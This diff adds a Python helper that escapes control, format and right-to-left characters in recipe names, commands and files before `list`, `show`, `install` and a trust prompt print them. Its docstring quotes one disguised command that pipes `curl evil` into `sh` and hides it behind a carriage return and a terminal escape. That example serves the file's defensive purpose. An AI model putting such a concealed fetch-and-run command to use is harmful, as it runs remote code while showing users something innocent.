@@ -1,0 +1,28 @@
+"""A recipe's text as a terminal may show it: control and direction characters escaped.
+
+TOML strings may hold `\\r`, ESC and Unicode's invisible or right-to-left marks, so a
+command line printed raw can show something other than what runs
+(`curl evil | sh\\r\\x1b[2Kwc -c < note.txt` prints as `wc -c < note.txt`). Every
+name, summary, command, file name and file text that `list`, `show`, `install`
+and the trust prompt print goes through `printable` first.
+"""
+
+from __future__ import annotations
+
+import unicodedata
+
+
+def printable(text, newlines: bool = False) -> str:
+    """`text` with every control or format character written as an escape (`\\r`, `\\x1b`, `\\u202e`).
+
+    With `newlines`, line breaks and tabs stay as they are (a file shown whole)."""
+    text = str(text)
+    out = []
+    for ch in text:
+        if newlines and ch in "\n\t":
+            out.append(ch)
+        elif unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Co", "Cs", "Cn") and ch != " ":
+            out.append(ch.encode("unicode_escape").decode("ascii"))
+        else:
+            out.append(ch)
+    return "".join(out)
